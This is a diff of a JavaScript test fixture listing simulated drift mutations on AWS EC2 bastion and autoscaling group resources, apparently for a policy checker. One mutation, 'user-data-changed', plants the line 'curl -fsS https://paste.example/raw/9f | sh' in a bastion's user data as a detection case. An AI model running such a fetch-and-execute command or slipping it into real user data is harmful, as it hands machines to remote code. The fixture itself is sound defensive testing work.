@@ -14,38 +14,67 @@ const strayVolume = idOf('vol', 'by-hand')
 const strayInstance = idOf('i', 'by-hand')
 
 export const machineMutations = [
-  { ...bastion, name: 'instance-type-changed', policy: 'DG306', apply: (world) => change(theBastion(world), '', 'InstanceType', 't3.large') },
+  {
+    ...bastion,
+    name: 'instance-type-changed',
+    policy: 'DG306',
+    apply: (world) => {
+      // A type can be changed on a stopped instance only, and a start makes it look young.
+      theBastion(world).LaunchTime = '2026-11-18T13:58:41Z'
+      return change(theBastion(world), '', 'InstanceType', 't3.large')
+    },
+  },
   {
     ...bastion,
     name: 'user-data-changed',
     policy: 'DG305',
     apply: (world) => change(theBastion(world), '', 'UserData', base64(`${bastionUserData}curl -fsS https://paste.example/raw/9f | sh\n`)),
   },
-  { ...bastion, name: 'instance-profile-swapped', policy: 'DG306', apply: (world) => change(theBastion(world), '', 'IamInstanceProfile', `${name}-web`) },
+  {
+    ...bastion,
+    name: 'instance-profile-swapped',
+    policy: 'DG306',
+    apply: (world) => change(theBastion(world), '', 'IamInstanceProfile', `${name}-web`),
+  },
   {
     ...bastion,
     name: 'volume-attached-by-hand',
     policy: 'DG307',
     apply: (world) => {
-      world.add(...volumeOf(strayVolume, { zone: zones[0], size: 200, encrypted: false, createdAt: '2026-11-18T14:03:22+00:00', attachment: { instance: bastionId, device: '/dev/sdg', root: false } }))
+      world.add(
+        ...volumeOf(strayVolume, { zone: zones[0], size: 200, encrypted: false, attachment: { instance: bastionId, device: '/dev/sdg' } }),
+      )
       return insert(theBastion(world).Volumes, '/Volumes', { Device: '/dev/sdg', VolumeId: strayVolume })
     },
   },
   { name: 'volume-by-hand', address: strayVolume, kind: 'AWS::EC2::Volume', outcome: 'unmanaged', policy: 'DG103', apply: () => ({}) },
   {
-    ...group,
     name: 'instance-on-old-image',
+    address: instances[2],
+    kind: 'AWS::EC2::Instance',
     outcome: 'image',
     policy: 'DG203',
     apply: (world) => {
-      world.add(...groupInstance(2, { image: images.webOld, version: '1', launched: '2026-08-14T11:26:08+00:00' }))
+      world.add(...groupInstance(2, { image: images.webOld, version: '1', launched: '2026-08-14T11:26:08Z' }))
       theGroup(world).Instances[2].LaunchTemplate.Version = '1'
-      // One machine, judged four times over: its image, its age, its template version, and the group that it makes uneven.
-      return { physicalId: instances[2], alsoBreaks: ['DG202', 'DG301', 'DG302', 'DG303'] }
+      // Old image, old machine, old template version: one machine, one finding.
+      return { alsoBreaks: ['DG202', 'DG301', 'DG302'] }
     },
   },
-  { ...group, name: 'process-suspended', policy: 'DG308', apply: (world) => insert(theGroup(world).SuspendedProcesses, '/SuspendedProcesses', { ProcessName: 'ReplaceUnhealthy', SuspensionReason: 'User suspended at 2026-11-16T08:12:51Z' }) },
-  { ...group, name: 'scale-in-protection-set', policy: 'DG308', apply: (world) => change(theGroup(world).Instances[1], '/Instances/1', 'ProtectedFromScaleIn', true) },
+  // What the old machine makes of its group.
+  { ...group, name: 'group-of-two-images', outcome: 'image', policy: 'DG303', apply: () => ({}) },
+  {
+    ...group,
+    name: 'process-suspended',
+    policy: 'DG308',
+    apply: (world) => insert(theGroup(world).SuspendedProcesses, '/SuspendedProcesses', 'ReplaceUnhealthy'),
+  },
+  {
+    ...group,
+    name: 'scale-in-protection-set',
+    policy: 'DG308',
+    apply: (world) => change(theGroup(world).Instances[1], '/Instances/1', 'ProtectedFromScaleIn', true),
+  },
   {
     name: 'template-default-set-back',
     address: 'module.web.aws_launch_template.this',
@@ -77,7 +106,7 @@ export const machineMutations = [
           tags: [{ Key: 'Name', Value: 'test adam' }],
           rootSize: 8,
           key: 'adam-laptop',
-          launched: '2026-11-17T16:21:30+00:00',
+          launched: '2026-11-17T16:21:30Z',
           tokens: 'optional',
         }),
       )
